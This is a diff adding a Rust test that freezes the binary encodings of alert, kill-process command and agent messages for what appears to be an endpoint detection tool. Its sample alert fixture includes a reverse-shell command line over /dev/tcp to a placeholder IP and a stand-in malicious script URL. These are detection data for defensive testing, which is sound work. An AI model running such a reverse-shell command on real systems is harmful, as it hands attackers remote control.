@@ -1,0 +1,142 @@
+//! Frozen v1 encodings: postcard is not self-describing, so a change to a type's
+//! layout must show up here. Regenerate deliberately with WARD_BLESS_GOLDEN=1.
+
+use std::net::{IpAddr, Ipv4Addr};
+use std::path::PathBuf;
+
+use ward_protocol::message::{AlertBatch, Heartbeat};
+use ward_protocol::*;
+
+fn alert() -> Alert {
+    Alert {
+        id: AlertId(Id128::from_u128(0x0190_0000_0000_0000_0000_0000_0000_0001)),
+        device_id: DeviceId(Id128::from_u128(42)),
+        seq: 7,
+        observed_at_ms: 1_760_000_000_000,
+        last_observed_at_ms: 1_760_000_000_500,
+        rule: RuleRef {
+            id: "ward-linux-reverse-shell".into(),
+            title: "Reverse shell via /dev/tcp".into(),
+            author: "Ward".into(),
+            severity: Severity::High,
+            techniques: vec!["T1059.004".into()],
+            tactics: vec!["TA0002".into()],
+        },
+        entities: vec![
+            Entity::Device {
+                hostname: "laptop-7".into(),
+            },
+            Entity::User {
+                name: "alice".into(),
+                uid: Some(1000),
+            },
+            Entity::Process {
+                pid: 4242,
+                ppid: 1,
+                start_time_ms: 1_760_000_000_000,
+                exe: "/usr/bin/bash".into(),
+                cmdline: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1".into(),
+                sha256: Some([0xab; 32]),
+            },
+            Entity::File {
+                path: "/tmp/x".into(),
+                sha256: None,
+            },
+            Entity::Ip {
+                addr: IpAddr::V4(Ipv4Addr::new(203, 0, 113, 5)),
+            },
+            Entity::Domain {
+                name: "evil.example".into(),
+            },
+            Entity::Url {
+                url: "http://evil.example/a.sh".into(),
+            },
+            Entity::Mailbox {
+                address: "alice@example.com".into(),
+            },
+        ],
+        count: 3,
+        matched: vec![MatchedField {
+            name: "CommandLine".into(),
+            value: "/dev/tcp/".into(),
+        }],
+    }
+}
+
+fn command() -> Command {
+    Command {
+        id: CommandId(Id128::from_u128(9)),
+        device_id: DeviceId(Id128::from_u128(42)),
+        seq: 3,
+        issued_at_ms: 1_760_000_000_000,
+        expires_at_ms: 1_760_000_900_000,
+        action: Action::KillProcess {
+            pid: 4242,
+            start_time_ms: 1_760_000_000_000,
+            exe: "/usr/bin/bash".into(),
+            tree: true,
+        },
+        approval: Approval {
+            requested_by: "alice".into(),
+            approved_by: vec!["bob".into()],
+            reason: "reverse shell".into(),
+        },
+    }
+}
+
+fn check(name: &str, bytes: Vec<u8>) {
+    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/golden/v1")
+        .join(format!("{name}.hex"));
+    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
+    if std::env::var_os("WARD_BLESS_GOLDEN").is_some() {
+        std::fs::write(&path, format!("{hex}\n")).unwrap();
+    }
+    let want = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    assert_eq!(hex, want.trim(), "{name}: the v1 encoding changed");
+}
+
+#[test]
+fn v1_encodings_are_frozen() {
+    let alert = alert();
+    let alert_bytes = postcard::to_stdvec(&alert).unwrap();
+    check("alert", alert_bytes.clone());
+    check("command", postcard::to_stdvec(&command()).unwrap());
+    let batch = AgentMessage::Alerts(AlertBatch {
+        batch_id: 11,
+        alerts: vec![Signed {
+            key_id: KeyId([1; 8]),
+            payload: alert_bytes,
+            signature: vec![2; 64],
+        }],
+    });
+    check(
+        "agent_alerts_frame",
+        encode_frame(&batch, codec::MAX_AGENT_FRAME).unwrap(),
+    );
+    let hb = AgentMessage::Heartbeat(Heartbeat {
+        sent_at_ms: 1,
+        inventory: Some(Inventory {
+            hostname: "h".into(),
+            ..Default::default()
+        }),
+        isolation: IsolationState::Isolated,
+        outbox_depth: 2,
+        rule_pack_version: 3,
+    });
+    check(
+        "agent_heartbeat_frame",
+        encode_frame(&hb, codec::MAX_AGENT_FRAME).unwrap(),
+    );
+}
+
+#[test]
+fn golden_files_decode_to_the_values() {
+    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/v1/alert.hex");
+    let hex = std::fs::read_to_string(path).unwrap();
+    let bytes: Vec<u8> = (0..hex.trim().len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
+        .collect();
+    assert_eq!(postcard::from_bytes::<Alert>(&bytes).unwrap(), alert());
+}
